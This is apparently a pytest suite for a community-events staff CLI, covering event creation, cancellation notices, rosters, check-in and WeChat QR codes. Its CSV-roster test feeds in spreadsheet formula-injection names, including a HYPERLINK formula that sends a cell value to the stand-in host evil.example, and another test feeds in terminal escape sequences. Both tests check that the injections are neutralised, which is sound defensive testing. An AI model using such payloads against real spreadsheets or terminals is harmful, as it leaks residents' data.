"""Staff run events from the terminal: aixiang events ...

The CLI uses the real clock, so every time here is relative to now, in Shanghai time.
"""

from __future__ import annotations

import csv
import json
from datetime import datetime, timedelta
from pathlib import Path

import pytest
from click.testing import CliRunner
from sqlalchemy import select

from bot.services import Services
from bot.wechat.fake_api.server import FakeWeChatServer
from models import OutboxMessage
from models.audit import Actor
from models.base import utcnow
from models.events.notices import LATE_CANCEL_NOTICE_WINDOW
from models.events.signups import cancel_signup, save_contact, sign_up
from models.events.staff import create_event
from models.events.tables import Attendance, Event, SignupStatus
from models.partners import add_partner
from models.push.upkeep import expire_stale
from models.residents import get_or_create_resident
from tests.cli import fail, run
from tests.helpers import SHANGHAI, count, local, pushes, signups

# The tags these events are given are in the managed list.
pytestmark = pytest.mark.usefixtures("usual_tags")

# A day a month ahead: events may be set at most a year ahead
# (models.events.staff.SCHEDULE_HORIZON).
SOON = (datetime.now(SHANGHAI) + timedelta(days=30)).date()


def create(staff: CliRunner, *extra: str, days: float = 10) -> int:
    result = run(
        staff,
        "events",
        "create",
        "--title",
        "社区花园共建",
        "--starts-at",
        local(timedelta(days=days)),
        "--capacity",
        "3",
        *extra,
    )
    return int(result.stdout.strip())


def event(services: Services, event_id: int) -> Event:
    with services.session_factory() as db:
        found = db.get(Event, event_id)
        assert found is not None
        found.tags  # noqa: B018 - load them while the session is open
        return found


def residents_sign_up(services: Services, event_id: int, *openids: str, party: int = 1) -> None:
    with services.session_factory() as db, db.begin():
        for openid in openids:
            sign_up(db, event_id, get_or_create_resident(db, openid, utcnow()), party, utcnow())


# create -------------------------------------------------------------------------------------


def test_create_prints_the_id_and_stores_utc(staff: CliRunner, services: Services) -> None:
    starts = datetime.now(SHANGHAI).replace(second=0, microsecond=0) + timedelta(days=5)
    result = run(
        staff,
        "events",
        "create",
        "--title",
        "女性技能课堂",
        "--starts-at",
        starts.strftime("%Y-%m-%dT%H:%M"),
        "--capacity",
        "12",
    )
    event_id = int(result.stdout.strip())
    stored = event(services, event_id)
    assert stored.starts_at == starts and stored.starts_at.utcoffset() == timedelta(0)
    assert stored.status == "draft" and stored.capacity == 12 and stored.max_party_size == 1


def test_create_with_every_option_and_json(staff: CliRunner, services: Services) -> None:
    with services.session_factory() as db, db.begin():
        add_partner(db, Actor.os_user("test"), name="爱乡小学", kind="school", now=utcnow())
        add_partner(db, Actor.os_user("test"), name="绿色环保协会", kind="ngo", now=utcnow())
    result = run(
        staff,
        "events",
        "create",
        "--title",
        "儿童生态营",
        "--starts-at",
        local(timedelta(days=7)),
        "--ends-at",
        local(timedelta(days=7, hours=3)),
        "--capacity",
        "20",
        "--place",
        "社区花园",
        "--deadline",
        local(timedelta(days=6)),
        "--max-party",
        "3",
        "--require-contact",
        "--tag",
        "Children",
        "--tag",
        "志愿者",
        "--partner",
        "爱乡小学",
        "--partner",
        "绿色环保协会",
        "--publish",
        "--json",
    )
    event_id = json.loads(result.stdout)["id"]
    stored = event(services, event_id)
    assert stored.status == "published" and stored.published_at is not None
    assert stored.place == "社区花园" and stored.max_party_size == 3 and stored.contact_required
    assert stored.tags == ["children", "volunteers"]
    assert stored.ends_at is not None and stored.signup_deadline is not None
    listed = json.loads(run(staff, "events", "list", "--json").stdout)
    assert listed[0]["partners"] == ["爱乡小学", "绿色环保协会"]
    assert listed[0]["starts_at"].endswith("+08:00")


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (("--starts-at", "2026-12-01T09:00", "--capacity", "5"), "--title is required"),
        (("--title", "T", "--capacity", "5"), "--starts-at is required"),
        (("--title", "T", "--starts-at", f"{SOON}T09:00"), "--capacity is required"),
        (("--title", "T", "--starts-at", "2020-01-01T09:00", "--capacity", "5"), "in the past"),
        (("--title", "T", "--starts-at", "next week", "--capacity", "5"), "not a date"),
        (("--title", "T", "--starts-at", f"{SOON}T09:00", "--capacity", "0"), "at least 1"),
        (("--title", "T", "--starts-at", f"{SOON}T09:00", "--capacity", "ten"), "whole number"),
        (("--title", " ", "--starts-at", f"{SOON}T09:00", "--capacity", "5"), "title"),
        (
            (
                "--title",
                "T",
                "--starts-at",
                f"{SOON}T09:00",
                "--ends-at",
                f"{SOON}T08:00",
                "--capacity",
                "5",
            ),
            "end time must be after",
        ),
        (
            (
                "--title",
                "T",
                "--starts-at",
                f"{SOON}T09:00",
                "--deadline",
                f"{SOON + timedelta(days=1)}T09:00",
                "--capacity",
                "5",
            ),
            "deadline must not be after",
        ),
        (
            (
                "--title",
                "T",
                "--starts-at",
                f"{SOON}T09:00",
                "--capacity",
                "2",
                "--max-party",
                "3",
            ),
            "larger than the capacity",
        ),
        (
            (
                "--title",
                "T",
                "--starts-at",
                f"{SOON}T09:00",
                "--capacity",
                "2",
                "--partner",
                "无名氏",
            ),
            "no partner named '无名氏'",
        ),
        (
            ("--title", "T", "--starts-at", f"{SOON}T09:00", "--capacity", "2", "--tag", " "),
            "A tag's name is not empty",
        ),
    ],
)
def test_create_refuses_bad_arguments(
    staff: CliRunner, services: Services, args: tuple[str, ...], message: str
) -> None:
    assert message in fail(staff, "events", "create", *args)
    assert count(services, Event) == 0


# update / publish / cancel ----------------------------------------------------------------------


def test_update_changes_fields_and_tags(staff: CliRunner, services: Services) -> None:
    event_id = create(staff, "--tag", "women", "--ends-at", local(timedelta(days=10, hours=2)))
    result = run(
        staff,
        "events",
        "update",
        str(event_id),
        "--title",
        "新标题",
        "--place",
        "活动中心",
        "--tag",
        "elderly",
        "--ends-at",
        "none",
        "--require-contact",
    )
    assert result.stdout.strip() == f"updated event {event_id}"
    stored = event(services, event_id)
    assert (stored.title, stored.place, stored.tags) == ("新标题", "活动中心", ["elderly"])
    assert stored.ends_at is None and stored.contact_required and stored.updated_at is not None


def test_larger_capacity_promotes_the_waitlist(staff: CliRunner, services: Services) -> None:
    event_id = create(staff, "--publish")
    residents_sign_up(services, event_id, "o-1", "o-2", "o-3", "o-4", "o-5")
    result = run(staff, "events", "update", str(event_id), "--capacity", "4")
    assert "1 waitlisted sign-up(s) confirmed" in result.stdout
    statuses = [s.status for s in signups(services, event_id)]
    assert statuses == [SignupStatus.CONFIRMED] * 4 + [SignupStatus.WAITLISTED]
    assert signups(services, event_id)[-1].waitlist_position == 1
    with services.session_factory() as db:
        [push] = db.execute(select(OutboxMessage)).scalars().all()
    assert push.kind == "promotion" and push.recipient_openid == "o-4"


def test_moving_an_event_says_how_many_will_be_told(staff: CliRunner, services: Services) -> None:
    event_id = create(staff, "--publish")
    residents_sign_up(services, event_id, "o-1", "o-2", "o-3", "o-4")
    moved = local(timedelta(days=11))
    result = run(staff, "events", "update", str(event_id), "--starts-at", moved)
    assert result.stdout.splitlines() == [
        f"updated event {event_id}",
        "4 sign-up(s) (4 people) will be told the new time or place",
    ]
    told = json.loads(
        run(staff, "events", "update", str(event_id), "--place", "礼堂", "--json").stdout
    )["told_of_change"]
    assert told == {"signups": 4, "people": 4}
    notices = [p for p in pushes(services, "event_moved") if p.status == "pending"]
    assert sorted(p.recipient_openid for p in notices) == ["o-1", "o-2", "o-3", "o-4"]


def test_update_refusals(staff: CliRunner, services: Services) -> None:
    event_id = create(staff, "--publish")
    residents_sign_up(services, event_id, "o-1", "o-2")
    assert "below the 2 places" in fail(staff, "events", "update", str(event_id), "--capacity", "1")
    assert "no event 999" in fail(staff, "events", "update", "999", "--title", "x")
    assert "not an event id" in fail(staff, "events", "update", "abc", "--title", "x")
    assert "nothing to change" in fail(staff, "events", "update", str(event_id))
    past = local(timedelta(days=-1))
    assert "in the past" in fail(staff, "events", "update", str(event_id), "--starts-at", past)
    assert event(services, event_id).capacity == 3


def test_publish(staff: CliRunner, services: Services) -> None:
    event_id = create(staff)
    assert run(staff, "events", "publish", str(event_id)).stdout.strip() == (
        f"published event {event_id}"
    )
    assert event(services, event_id).status == "published"
    assert "already published" in run(staff, "events", "publish", str(event_id)).stdout
    assert "no event 999" in fail(staff, "events", "publish", "999")


def test_cancel_tells_confirmed_and_waitlisted(staff: CliRunner, services: Services) -> None:
    event_id = create(staff, "--publish")
    residents_sign_up(services, event_id, "o-1", "o-2", "o-3", "o-4")
    with services.session_factory() as db, db.begin():
        gone = get_or_create_resident(db, "o-1", utcnow())
        cancel_signup(db, event_id, gone, utcnow(), SHANGHAI)
    result = run(staff, "events", "cancel", str(event_id), "--reason", "台风预警")
    assert result.stdout.strip() == f"cancelled event {event_id}; 3 resident(s) will be told"
    with services.session_factory() as db:
        cancelled_pushes = (
            db.execute(select(OutboxMessage).where(OutboxMessage.kind == "event_cancelled"))
            .scalars()
            .all()
        )
    assert sorted(p.recipient_openid for p in cancelled_pushes) == ["o-2", "o-3", "o-4"]
    assert all("台风预警" in p.payload["text"]["zh"] for p in cancelled_pushes)
    assert all(
        p.idempotency_key.startswith(f"event_cancelled:{event_id}:") for p in cancelled_pushes
    )
    stored = event(services, event_id)
    assert stored.status == "cancelled" and stored.cancel_reason == "台风预警"
    assert "already cancelled" in fail(staff, "events", "cancel", str(event_id), "--reason", "x")
    assert "cancelled" in fail(staff, "events", "publish", str(event_id))


@pytest.mark.parametrize("runs_for", [timedelta(minutes=5), timedelta(hours=6)])
def test_cancel_after_the_start_still_tells_people(
    staff: CliRunner, services: Services, runs_for: timedelta
) -> None:
    """Rain calls an event off ten minutes in: the notice lives until the event's end, and
    at least a few hours, instead of being queued already expired."""
    start = utcnow() - timedelta(minutes=10)
    with services.session_factory() as db, db.begin():
        called_off = create_event(
            db,
            title="雨天活动",
            starts_at=start,
            ends_at=utcnow() + runs_for,
            capacity=5,
            now=start - timedelta(days=1),
            publish=True,
        )
        event_id = called_off.id
        earlier = start - timedelta(hours=1)
        sign_up(db, event_id, get_or_create_resident(db, "o-1", earlier), 1, earlier)
    result = run(staff, "events", "cancel", str(event_id), "--reason", "暴雨")
    assert "1 resident(s) will be told" in result.stdout
    with services.session_factory() as db, db.begin():
        assert expire_stale(db, utcnow()) == 0
        push = db.execute(select(OutboxMessage)).scalar_one()
    assert push.status == "pending"
    assert push.expires_at is not None
    assert push.expires_at >= max(
        start + timedelta(minutes=10) + runs_for,
        utcnow() + LATE_CANCEL_NOTICE_WINDOW - timedelta(minutes=5),
    )


def test_an_event_over_before_the_status_job_marked_it_cannot_be_cancelled(
    staff: CliRunner, services: Services
) -> None:
    """Ended four hours ago but still 'published' (no scheduler leader marked it): nobody
    is told that something which already happened is off."""
    start = utcnow() - timedelta(hours=6)
    with services.session_factory() as db, db.begin():
        over = create_event(
            db,
            title="上午的活动",
            starts_at=start,
            ends_at=start + timedelta(hours=2),
            capacity=5,
            now=start - timedelta(days=1),
            publish=True,
        )
        earlier = start - timedelta(hours=1)
        sign_up(db, over.id, get_or_create_resident(db, "o-1", earlier), 1, earlier)
        event_id = over.id
    assert fail(staff, "events", "cancel", str(event_id), "--reason", "暴雨") == (
        f"error: event {event_id} has already ended"
    )
    with services.session_factory() as db:
        assert db.execute(select(OutboxMessage)).first() is None


def test_cancel_needs_a_reason(staff: CliRunner, services: Services) -> None:
    event_id = create(staff, "--publish")
    assert "--reason is required" in fail(staff, "events", "cancel", str(event_id))
    assert "--reason is required" in fail(staff, "events", "cancel", str(event_id), "--reason", " ")
    assert event(services, event_id).status == "published"


# list / roster ----------------------------------------------------------------------------------


def test_list_table_json_and_upcoming(staff: CliRunner, services: Services) -> None:
    soon = create(staff, "--publish", days=1)
    later = create(staff, "--tag", "women", days=20)
    called_off = create(staff, "--publish", days=3)
    run(staff, "events", "cancel", str(called_off), "--reason", "场地")
    residents_sign_up(services, soon, "o-1", "o-2", "o-3", "o-4")
    table = run(staff, "events", "list").stdout.splitlines()
    assert table[0].split() == [
        "id",
        "status",
        "starts_at",
        "title",
        "place",
        "capacity",
        "confirmed",
        "waitlisted",
        "walk_ins",
        "tags",
    ]
    assert [int(line.split()[0]) for line in table[1:]] == [later, called_off, soon]
    rows = {row["id"]: row for row in json.loads(run(staff, "events", "list", "--json").stdout)}
    assert (rows[soon]["confirmed"], rows[soon]["waitlisted"]) == (3, 1)
    assert rows[later]["tags"] == ["women"] and rows[later]["status"] == "draft"
    upcoming = json.loads(run(staff, "events", "list", "--upcoming", "--json").stdout)
    assert [row["id"] for row in upcoming] == [soon, later]


def test_list_empty(staff: CliRunner) -> None:
    assert run(staff, "events", "list").stdout.strip() == "(none)"


def test_roster_in_every_format(staff: CliRunner, services: Services, tmp_path: Path) -> None:
    event_id = create(staff, "--publish", "--max-party", "2", days=0.05)
    residents_sign_up(services, event_id, "o-1", party=2)
    residents_sign_up(services, event_id, "o-2", "o-3", "o-4")
    with services.session_factory() as db, db.begin():
        save_contact(get_or_create_resident(db, "o-1", utcnow()), "张三", "13812345678", utcnow())
    code = signups(services, event_id)[0].checkin_code
    run(staff, "events", "checkin", str(event_id), "--code", code)

    text = run(staff, "events", "roster", str(event_id)).stdout
    assert text.startswith(f"event {event_id}: 社区花园共建")
    assert "confirmed (3 people)" in text and "waitlist (2)" in text and "张三" in text
    assert "attendance (2 people)" in text

    data = json.loads(run(staff, "events", "roster", str(event_id), "--json").stdout)
    assert [row["openid"] for row in data["confirmed"]] == ["o-1", "o-2"]
    assert [(row["position"], row["openid"]) for row in data["waitlist"]] == [
        (1, "o-3"),
        (2, "o-4"),
    ]
    assert data["attendance"][0]["method"] == "code"
    assert data["confirmed"][0]["checked_in"] == data["attendance"][0]["checked_in"]
    assert data["confirmed"][1]["checked_in"] is None
    assert datetime.fromisoformat(data["confirmed"][0]["signed_up"]).utcoffset() == timedelta(
        hours=8
    )

    path = tmp_path / "roster.csv"
    result = run(staff, "events", "roster", str(event_id), "--csv", str(path))
    assert f"wrote 5 rows to {path}" in result.stdout
    with path.open(encoding="utf-8-sig") as handle:
        rows = list(csv.DictReader(handle))
    assert [row["section"] for row in rows] == ["confirmed"] * 2 + ["waitlist"] * 2 + ["attendance"]
    assert rows[0]["name"] == "张三" and rows[0]["mobile"] == "13812345678"
    assert rows[3]["position"] == "2"


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("http://evil.example/?x="&B2,"点我")',
        "+1+1",
        "-2+3",
        "@SUM(A1)",
        "＝1+1",
    ],
)
def test_roster_csv_keeps_a_formula_name_as_text(
    staff: CliRunner, services: Services, tmp_path: Path, name: str
) -> None:
    """A name a resident chose must not run when staff open the roster in a spreadsheet."""
    event_id = create(staff, "--publish", days=0.05)
    residents_sign_up(services, event_id, "o-1", "o-2")
    with services.session_factory() as db, db.begin():
        save_contact(get_or_create_resident(db, "o-1", utcnow()), name, "13812345678", utcnow())
        save_contact(get_or_create_resident(db, "o-2", utcnow()), "李四-2", "13812345679", utcnow())
    run(staff, "events", "checkin", str(event_id), "--openid", "o-1")
    path = tmp_path / "roster.csv"
    run(staff, "events", "roster", str(event_id), "--csv", str(path))
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [row["name"] for row in rows] == [f"'{name}", "李四-2", f"'{name}"]
    assert rows[0]["mobile"] == "13812345678" and rows[0]["party_size"] == "1"


def test_roster_refusals(staff: CliRunner, tmp_path: Path) -> None:
    assert "no event 999" in fail(staff, "events", "roster", "999")
    event_id = create(staff)
    missing = str(tmp_path / "nowhere" / "r.csv")
    assert "does not exist" in fail(staff, "events", "roster", str(event_id), "--csv", missing)


# check-in --------------------------------------------------------------------------------------


def test_checkin_by_code_twice_and_walk_in(staff: CliRunner, services: Services) -> None:
    event_id = create(staff, "--publish", days=0.05)
    residents_sign_up(services, event_id, "o-1", "o-2", "o-3", "o-4")
    first, _, _, waiting = signups(services, event_id)
    line = run(staff, "events", "checkin", str(event_id), "--code", first.checkin_code).stdout
    assert line.strip() == "checked in o-1 (party of 1)"
    again = run(staff, "events", "checkin", str(event_id), "--code", first.checkin_code).stdout
    assert "o-1 already checked in at" in again
    # A waitlisted resident at the door is a walk-in only while a place is free.
    assert "no walk-in place" in fail(
        staff, "events", "checkin", str(event_id), "--code", waiting.checkin_code
    )
    assert count(services, Attendance) == 1


def test_checkin_refuses_a_cancelled_sign_ups_code(staff: CliRunner, services: Services) -> None:
    """The code stood for a place the resident gave up: it checks no one in, even with
    places free; the resident can still come in as a walk-in by openid."""
    event_id = create(staff, "--publish", days=0.05)
    residents_sign_up(services, event_id, "o-1")
    code = signups(services, event_id)[0].checkin_code
    with services.session_factory() as db, db.begin():
        cancel_signup(db, event_id, get_or_create_resident(db, "o-1", utcnow()), utcnow(), SHANGHAI)
    refused = fail(staff, "events", "checkin", str(event_id), "--code", code)
    assert refused == f"error: the sign-up with code {code!r} for event {event_id} was cancelled"
    assert count(services, Attendance) == 0
    walk_in = run(staff, "events", "checkin", str(event_id), "--openid", "o-1").stdout
    assert "as a walk-in" in walk_in


def test_checkin_by_openid_as_walk_in(staff: CliRunner, services: Services) -> None:
    event_id = create(staff, "--publish", days=0.05)
    with services.session_factory() as db, db.begin():
        get_or_create_resident(db, "o-walk", utcnow())
    line = run(staff, "events", "checkin", str(event_id), "--openid", "o-walk").stdout
    assert line.strip() == "checked in o-walk as a walk-in (not signed up)"
    with services.session_factory() as db:
        [row] = db.execute(select(Attendance)).scalars().all()
    assert row.method == "staff" and row.walk_in


def test_checkin_refusals(staff: CliRunner, services: Services) -> None:
    soon = create(staff, "--publish", days=0.05)
    later = create(staff, "--publish", days=5)
    residents_sign_up(services, later, "o-1")
    code = signups(services, later)[0].checkin_code
    assert "has not opened" in fail(staff, "events", "checkin", str(later), "--code", code)
    assert "no sign-up for event" in fail(staff, "events", "checkin", str(soon), "--code", "000000")
    assert "no event 999" in fail(staff, "events", "checkin", "999", "--code", "1")
    assert "exactly one of" in fail(staff, "events", "checkin", str(soon))
    assert "no resident" in fail(staff, "events", "checkin", str(soon), "--openid", "o-nobody")
    assert count(services, Attendance) == 0


def test_walk_in_by_name_takes_free_places_and_is_on_the_roster(
    staff: CliRunner, services: Services
) -> None:
    event_id = create(staff, "--publish", "--max-party", "3", days=0.05)
    residents_sign_up(services, event_id, "o-1")
    line = run(
        staff,
        "events",
        "walk-in",
        str(event_id),
        "--name",
        " 张  三 ",
        "--phone",
        "138 0013 8000",
        "--party",
        "2",
    ).stdout
    assert line.strip() == "added walk-in 张 三 (party of 2)"
    with services.session_factory() as db:
        [row] = db.execute(select(Attendance)).scalars().all()
    assert (row.walk_in_name, row.walk_in_phone, row.party_size) == ("张 三", "13800138000", 2)
    assert row.walk_in and row.resident_id is None
    roster = json.loads(run(staff, "events", "roster", str(event_id), "--json").stdout)
    assert [(a["name"], a["party"]) for a in roster["attendance"]] == [("张 三", 2)]


def test_walk_in_refusals_change_nothing(staff: CliRunner, services: Services) -> None:
    soon = create(staff, "--publish", "--max-party", "3", days=0.05)
    later = create(staff, "--publish", days=5)
    residents_sign_up(services, soon, "o-1", "o-2")
    walk_in = ("events", "walk-in", str(soon))
    assert "name is 1 to" in fail(staff, *walk_in, "--name", "  ")
    assert "not a mainland mobile" in fail(staff, *walk_in, "--name", "李四", "--phone", "12345")
    assert "a party is 1 to 3" in fail(staff, *walk_in, "--name", "李四", "--party", "4")
    assert "--party: 'two' is not a whole number" in fail(
        staff, *walk_in, "--name", "李四", "--party", "two"
    )
    assert "fewer than 2 places left" in fail(staff, *walk_in, "--name", "李四", "--party", "2")
    assert "has not opened" in fail(staff, "events", "walk-in", str(later), "--name", "李四")
    assert "no event 999" in fail(staff, "events", "walk-in", "999", "--name", "李四")
    assert count(services, Attendance) == 0


# QR code ---------------------------------------------------------------------------------------


@pytest.fixture
def wechat_staff(staff: CliRunner, fake_wechat: FakeWeChatServer) -> CliRunner:
    """The staff runner, talking to the fake WeChat API."""
    assert staff.env is not None
    staff.env = {
        **staff.env,
        "AIXIANG_WECHAT_TOKEN": "t",
        "AIXIANG_WECHAT_APP_ID": fake_wechat.app_id,
        "AIXIANG_WECHAT_APP_SECRET": fake_wechat.app_secret,
        "AIXIANG_WECHAT_API_BASE_URL": fake_wechat.base_url,
    }
    return staff


def test_qr_saves_the_png(
    wechat_staff: CliRunner, fake_wechat: FakeWeChatServer, tmp_path: Path
) -> None:
    event_id = create(wechat_staff, "--publish")
    out = tmp_path / "checkin.png"
    result = run(wechat_staff, "events", "qr", str(event_id), "--out", str(out))
    assert f"event {event_id} to {out}" in result.stdout
    assert out.read_bytes().startswith(b"\x89PNG\r\n\x1a\n")
    [created] = fake_wechat.calls("qrcode/create")
    assert created["body"] == {
        "action_name": "QR_LIMIT_STR_SCENE",
        "action_info": {"scene": {"scene_str": f"checkin:{event_id}"}},
    }
    assert len(fake_wechat.calls("showqrcode")) == 1


def test_qr_refusals(
    wechat_staff: CliRunner, fake_wechat: FakeWeChatServer, tmp_path: Path
) -> None:
    event_id = create(wechat_staff, "--publish")
    out = str(tmp_path / "qr.png")
    assert "no event 999" in fail(wechat_staff, "events", "qr", "999", "--out", out)
    assert "--out is required" in fail(wechat_staff, "events", "qr", str(event_id))
    assert ".png" in fail(wechat_staff, "events", "qr", str(event_id), "--out", "qr.jpg")
    missing = str(tmp_path / "nowhere" / "qr.png")
    assert "does not exist" in fail(wechat_staff, "events", "qr", str(event_id), "--out", missing)
    run(wechat_staff, "events", "cancel", str(event_id), "--reason", "下雨")
    assert "is cancelled" in fail(wechat_staff, "events", "qr", str(event_id), "--out", out)
    assert fake_wechat.calls("qrcode/create") == []
    assert not Path(out).exists()


def test_qr_when_wechat_refuses(
    wechat_staff: CliRunner, fake_wechat: FakeWeChatServer, tmp_path: Path
) -> None:
    event_id = create(wechat_staff, "--publish")
    out = tmp_path / "qr.png"
    fake_wechat.add_fault("qrcode/create", errcode=45009)
    line = fail(wechat_staff, "events", "qr", str(event_id), "--out", str(out), exit_code=1)
    assert "WeChat refused the QR code" in line and "45009" in line
    fake_wechat.add_fault("showqrcode", http_status=500)
    line = fail(wechat_staff, "events", "qr", str(event_id), "--out", str(out), exit_code=1)
    assert "HTTP 500" in line
    assert not out.exists()


def test_qr_without_credentials(staff: CliRunner, tmp_path: Path) -> None:
    event_id = create(staff)
    out = str(tmp_path / "qr.png")
    assert "wechat.token is required" in fail(staff, "events", "qr", str(event_id), "--out", out)


def test_a_residents_control_characters_never_reach_the_terminal(
    staff: CliRunner, services: Services
) -> None:
    """A name with a C1 control (U+009B reads as CSI) or ESC is shown with U+FFFD in the
    roster's table and the check-in line, and kept whole in JSON."""
    name = "王\x9b2J阿姨\x1b]0;x"
    event_id = create(staff, "--publish", days=0.05)
    residents_sign_up(services, event_id, "o-1")
    with services.session_factory() as db, db.begin():
        get_or_create_resident(db, "o-1", utcnow()).name = name
    line = run(staff, "events", "checkin", str(event_id), "--openid", "o-1").stdout
    table = run(staff, "events", "roster", str(event_id)).stdout
    for output in (line, table):
        assert "王\ufffd2J阿姨\ufffd]0;x" in output
        assert not any(0x80 <= ord(ch) <= 0x9F or ch == "\x1b" for ch in output)
    data = json.loads(run(staff, "events", "roster", str(event_id), "--json").stdout)
    assert data["confirmed"][0]["name"] == name
